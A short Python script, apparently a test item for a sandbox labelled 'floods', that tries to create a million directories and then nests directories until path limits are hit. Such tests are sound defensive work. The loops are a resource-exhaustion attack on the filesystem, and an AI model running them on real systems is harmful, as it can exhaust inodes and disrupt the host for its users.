"""family: floods
tries: a million empty files, folders and links, and a path a thousand folders deep
honest: all
"""

# %%
import os

try:
    for number in range(1_000_000):
        os.mkdir(f"stray-of-an-attack-{number}")
except OSError:
    pass
try:
    while True:
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
except OSError:
    pass
